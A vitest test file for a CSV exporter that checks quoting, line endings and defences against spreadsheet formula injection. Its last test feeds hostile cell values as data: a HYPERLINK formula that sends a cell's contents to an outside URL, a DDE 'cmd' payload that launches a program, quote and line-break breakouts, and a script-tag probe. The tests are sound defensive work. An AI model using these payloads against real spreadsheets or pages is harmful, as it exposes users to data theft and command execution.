import { expect, test } from 'vitest';
import { type Cell, csvFile } from './csv';

/** The file of one column without its head. */
function written(...cells: readonly Cell[]): string {
  const file = csvFile([{ head: 'A', cell: (cell: Cell) => cell }], cells);
  expect(file.startsWith('\uFEFFA\r\n')).toBe(true);
  return file.slice('\uFEFFA\r\n'.length);
}

/** Reads RFC 4180 back, character by character. */
function parse(file: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = file.startsWith('\uFEFF') ? 1 : 0; at < file.length; at++) {
    const character = file.charAt(at);
    if (isQuoted) {
      if (character !== '"') cell += character;
      else if (file.charAt(at + 1) === '"') cell += file.charAt(at++);
      else isQuoted = false;
    } else if (character === '"') isQuoted = true;
    else if (character === ',') [row, cell] = [[...row, cell], ''];
    else if (file.startsWith('\r\n', at)) {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      at++;
    } else cell += character;
  }
  return rows;
}

test('A CSV file begins with the byte order mark and its header, and every line ends in CRLF', () => {
  const columns = [
    { head: 'Customer', cell: ({ name }: { name: string }) => name },
    { head: 'Price', cell: () => 12.5 },
    { head: 'Note', cell: () => null },
  ];
  expect(csvFile(columns, [{ name: 'Zoë' }])).toBe('\uFEFFCustomer,Price,Note\r\nZoë,12.5,\r\n');
  expect(csvFile(columns, [])).toBe('\uFEFFCustomer,Price,Note\r\n');
});

test('Commas, semicolons, quotes, line breaks and outer spaces stay within their cell', () => {
  expect(written('a,b', 'a;b', 'say "hi"', 'two\nlines', 'two\r\nlines', ' padded ')).toBe(
    '"a,b"\r\n"a;b"\r\n"say ""hi"""\r\n"two\nlines"\r\n"two\r\nlines"\r\n" padded "\r\n',
  );
});

test.each([
  '=1+2',
  '+1 604 555 0119',
  '-2',
  '@SUM(A1)',
  '\tx',
  '\rx',
  '\nx',
  '  =1+2',
  ' \t=1',
  '\u00A0=1',
  '\u200B=1',
  '＝1+2',
  '＠x',
])('The cell %j is text for a spreadsheet, not a formula', (text) => {
  expect(parse(written(text))).toEqual([[`'${text}`]]);
});

test.each([
  '12345e67',
  '00345e12',
  '1E5',
  '1.5e+3',
  '12345678',
  '00123456',
  '02079460958',
  '6045550119',
  '442079460958',
  '604.555',
  '1,234',
  '1.234.567',
  '1 234 567',
  '604\u00a0555\u00a0019',
  '0.50',
  '.5',
  ' 02079460958 ',
  '５５５０１３１',
  '٠٢٠٧٩٤٦٠٩٥٨',
  '(604)',
  '$100',
  '100$',
  '€5',
  '50%',
  '9-3',
  '9-5',
  '1/2',
  '1 1/2',
  '3.4.26',
  '12-05-2026',
  '2026/12/01',
  '10:30',
  '16:9',
  'Mar 5',
  'march-24',
  '5 Sept',
  '5-Mar-26',
  'MAR1',
  'Dec. 2026',
  '10 pm',
  'true',
  'FALSE',
])('A spreadsheet leaves the cell %j as the text that it is', (text) => {
  expect(parse(written(text))).toEqual([[`'${text}`]]);
});

test.each([
  'Robin',
  '604-555-0119',
  '604 555 0119',
  '1-604-555-0119',
  '5f0c91ab',
  '12345e6f',
  '1e5b',
  'a=b',
  'x@example.com',
  "'quoted'",
  '2026-12-01',
  '2026-12-01 23:30',
  '9:00 AM',
  '12:30 PM',
  '5 PM',
  '2025/26',
  '31 days or more',
  'March',
  'May Lee',
  'Mazda 3',
  '3 Series',
  'F-150',
  '911 Carrera',
  'R-2026-0042',
  'True North',
  '',
])('The cell %j stays as it is', (text) => expect(parse(written(text))).toEqual([[text]]));

test('A number in a CSV file stays a number, even below zero', () => {
  expect(written(-12.5, 0)).toBe('-12.5\r\n0\r\n');
});

test('Hostile names in a CSV file open as text, each in its own cell', () => {
  const names = [
    '=HYPERLINK("http://example.com?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '"=1+1',
    '","=1+1","',
    'a"\r\n=1+1,"b',
    '<script>alert(1)</script>',
  ];
  const columns = [
    { head: 'Name', cell: (name: string) => name },
    { head: 'After', cell: () => 'after' },
  ];
  const [, ...rows] = parse(csvFile(columns, names));
  expect(rows).toHaveLength(names.length);
  for (const [index, [name, after, ...others]] of rows.entries()) {
    expect(name?.replace(/^'/, '')).toBe(names[index]);
    expect(name).not.toMatch(/^\s*[=+\-@]/);
    expect([after, others]).toEqual(['after', []]);
  }
});
